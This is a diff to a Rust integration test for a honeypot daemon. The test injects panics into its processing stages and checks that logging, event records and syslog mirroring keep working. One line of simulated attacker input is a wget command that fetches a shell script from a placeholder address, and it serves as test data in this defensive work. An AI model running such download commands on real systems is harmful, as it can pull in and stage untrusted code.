@@ -1,13 +1,14 @@
 //! Panics contained the way the daemon promises, proven with the test-only fault switch
 //! (`HONEYTRAP_FAULT`, debug builds): the real binary panics on purpose at a named point and
 //! the test checks the log line (thread, message, place), what the daemon does next (a clean
-//! stop with exit status 2, a port served again) and, detached, that the line still reaches
-//! the log.
+//! stop with exit status 2, a port served again, the attack's other outputs written) and,
+//! detached, that the line still reaches the log and syslog.
 
 mod common;
 
 use common::*;
 use std::net::{SocketAddr, UdpSocket};
+use std::path::Path;
 use std::time::{Duration, Instant};
 
 const T: Duration = Duration::from_secs(20);
@@ -160,4 +161,64 @@ fn panicking_listeners_free_their_ports() {
     s.panic_line(&format!("listen {udp}/udp"), "src/server/engine.rs", "injected fault at listener (pass 3)");
     let status = daemon.stop(T).unwrap_or_else(|e| panic!("{e}"));
     assert_eq!(status.and_then(|st| st.code()), Some(0), "{}", s.log());
+}
+
+/// Panicking pipeline stages (decoders, extraction, SaveFile every time, logAttacker once)
+/// cost the attack nothing else: logJSON and the events get every record, logAttacker the
+/// second one. The daemon runs detached, its stderr on /dev/null: the panic lines are in the
+/// log, and in syslog, which mirrors the log.
+#[test]
+fn panicking_pipeline_stages_keep_the_other_outputs() {
+    if !armed("panicking_pipeline_stages_keep_the_other_outputs") {
+        return;
+    }
+    let scratch = TempDir::new("panic-syslog");
+    let sock_path = scratch.join("syslog.sock");
+    let sock = std::os::unix::net::UnixDatagram::bind(&sock_path).unwrap();
+    let attacks = scratch.join("attacks");
+    std::fs::create_dir(&attacks).unwrap();
+    let s = Sensor::new(
+        "panic-pipeline",
+        &format!(
+            "plugin-b64Decode = \"\"\nplugin-httpDownload = \"\"\n\
+             plugin-SaveFile = {{ attacks_dir = \"{}\" }}\n\
+             plugin-syslog = {{ target = \"unix:{}\" what = \"log\" }}",
+            attacks.display(),
+            sock_path.display()
+        ),
+    );
+    let fault = "pipeline-decoders,pipeline-extraction,pipeline-SaveFile,pipeline-logAttacker@1";
+    let mut daemon = s.start_with_fault(Launch::Detached, fault);
+    for (n, data) in [&b"wget http://192.0.2.1/x.sh\n"[..], &b"second\n"[..]].into_iter().enumerate() {
+        assert!(attack(&s.ns, to(PORT), data), "{}", s.log());
+        let n = n + 1;
+        let written = || s.lines("attackers.json").len() == n && s.lines("events.json").len() == 3 * n;
+        assert!(wait_until(T, written), "record {n}; log:\n{}", s.log());
+    }
+    assert!(wait_until(T, || s.lines("attacker.log").len() == 1), "{}", s.log());
+    assert!(read(&s.path("attacker.log")).contains("(7 bytes)"), "the second attack's line");
+    assert_eq!(std::fs::read_dir(&attacks).unwrap().count(), 0, "SaveFile panicked each time");
+
+    let log = s.log();
+    for (stage, point, pass) in [
+        ("decoders", "pipeline-decoders", 1),
+        ("download extraction", "pipeline-extraction", 1),
+        ("SaveFile", "pipeline-SaveFile", 1),
+        ("SaveFile", "pipeline-SaveFile", 2),
+        ("logAttacker", "pipeline-logAttacker", 1),
+    ] {
+        let msg = format!("injected fault at {point} (pass {pass})");
+        assert!(log.lines().any(|l| l.contains("panicked at src/pipeline/") && l.ends_with(&msg)), "{msg}:\n{log}");
+        let stage_line = format!("Error - Stage {stage} failed on an attack; its other stages and outputs still run.");
+        assert!(log.contains(&stage_line), "{stage_line}:\n{log}");
+    }
+    // One stage line a minute per stage: SaveFile's second panic has its panic line only.
+    assert_eq!(log.matches("Stage SaveFile failed").count(), 1, "{log}");
+    let mirrored = datagrams(&sock, Duration::from_secs(1));
+    assert!(
+        mirrored.iter().any(|m| m.contains("panicked at src/pipeline/") && m.contains("pipeline-SaveFile")),
+        "{mirrored:?}"
+    );
+    daemon.stop(T).unwrap_or_else(|e| panic!("{e}"));
+    assert!(!Path::new(&format!("/proc/{}", daemon.pid())).exists());
 }
